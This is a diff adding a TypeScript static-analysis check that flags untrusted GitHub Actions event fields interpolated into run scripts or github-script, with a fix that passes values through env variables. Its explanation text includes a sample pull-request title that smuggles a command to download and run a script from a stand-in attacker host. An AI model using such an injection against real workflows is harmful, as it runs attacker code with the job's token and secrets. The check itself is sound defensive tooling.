@@ -1,0 +1,85 @@
+import { atLine, ciModel, expressionsIn, lineInValue, usesAction } from '../../targets/ci/jobs.js';
+import { asString } from '../../targets/yaml/read.js';
+import type { YamlPath } from '../../targets/yaml/source.js';
+import { defineCheck } from '../define.js';
+
+/** Context paths whose value a stranger writes: titles, bodies, branch names, commit messages, emails. */
+const UNTRUSTED = [
+  /^github\.event\.(issue|pull_request|discussion)\.(title|body)$/,
+  /^github\.event\.(comment|review|review_comment)\.body$/,
+  /^github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)$/,
+  /^github\.event\.(head_commit|workflow_run\.head_commit)\.(message|author\.(email|name)|committer\.(email|name))$/,
+  /^github\.event\.commits\.[^.]+\.(message|author\.(email|name)|committer\.(email|name))$/,
+  /^github\.event\.pages\.[^.]+\.page_name$/,
+  /^github\.event\.workflow_run\.(head_branch|display_title|head_repository\.description)$/,
+  /^github\.head_ref$/,
+];
+/** Inputs of workflow_dispatch / workflow_call: someone with write access types them, still not script text. */
+const INPUT = /^(inputs|github\.event\.inputs)\.[\w-]+$/;
+/** Context paths inside an expression: `github.event.commits[0].message`, `inputs.tag`. */
+const CONTEXT_PATH = /\b(?:github|inputs)(?:\.[\w-]+|\[[^\]]*\]|\.\*)+/g;
+
+export const expressionInjection = defineCheck({
+  id: 'ci/expression-injection',
+  title: 'Untrusted event fields are not interpolated into scripts',
+  severity: 'high',
+  target: 'ci-workflow',
+  why:
+    '`${{ }}` expressions are substituted into the script text before the shell runs it. A pull request title, issue ' +
+    'body, comment, branch name or commit message is written by whoever opens it, so a title like ' +
+    '`"; curl -sSf https://evil.example/x | sh; #` becomes shell code that runs with the job\'s token and secrets. ' +
+    'The same goes for the `script:` of actions/github-script, which is JavaScript.',
+  fix: [
+    'Pass the value through an environment variable and quote it; the shell then treats it as data:',
+    '',
+    '    - name: Announce',
+    '      env:',
+    '        TITLE: ${{ github.event.pull_request.title }}',
+    '      run: echo "Building $TITLE"',
+    '',
+    'In actions/github-script read `context.payload.pull_request.title` instead of interpolating it.',
+  ].join('\n'),
+  refs: [
+    'GitHub documentation, Security hardening for GitHub Actions: understanding the risk of script injections',
+    'GitHub Security Lab, Keeping your GitHub Actions and workflows secure part 2: untrusted input',
+    'zizmor template-injection',
+    'OWASP Top 10 CI/CD Security Risks CICD-SEC-4 (poisoned pipeline execution)',
+  ],
+  messages: {
+    untrusted: 'step "{step}" interpolates {field} into its {place}, where anyone who opens a pull request or issue controls it',
+    input: 'step "{step}" interpolates {field} into its {place}; pass it through env: instead',
+  },
+  peers: [{ tool: 'zizmor', rule: 'template-injection' }],
+  evaluate(workflow, ctx) {
+    const model = ciModel(workflow);
+    if (model.jobs.length === 0) return ctx.notApplicable();
+    const scan = (text: string, path: YamlPath, step: string, place: string) => {
+      if (!text.includes('${{')) return;
+      const keyLocation = workflow.at(path);
+      if (keyLocation.kind !== 'file') return;
+      for (const expression of expressionsIn(text)) {
+        const paths = expression.text.match(CONTEXT_PATH) ?? [];
+        const untrusted = paths.filter((candidate) => UNTRUSTED.some((pattern) => pattern.test(normalise(candidate))));
+        const inputs = untrusted.length > 0 ? [] : paths.filter((candidate) => INPUT.test(candidate));
+        const fields = untrusted.length > 0 ? untrusted : inputs;
+        if (fields.length === 0) continue;
+        const at = atLine(keyLocation, lineInValue(keyLocation.line, text, expression.offset));
+        ctx.fail(at, untrusted.length > 0 ? 'untrusted' : 'input', { step, field: fields.join(', '), place });
+      }
+    };
+    for (const job of model.jobs) {
+      for (const step of job.steps) {
+        if (step.run !== undefined) scan(step.run, [...step.path, 'run'], step.label, 'run script');
+        if (usesAction(step.uses, 'actions/github-script')) {
+          const script = asString(step.with.script);
+          if (script !== undefined) scan(script, [...step.path, 'with', 'script'], step.label, 'github-script');
+        }
+      }
+    }
+  },
+});
+
+/** `github.event.commits[0].message` → `github.event.commits.0.message`; `['title']` → `.title`. */
+function normalise(path: string): string {
+  return path.replace(/\[['"]?([^\]'"]*)['"]?\]/g, '.$1');
+}
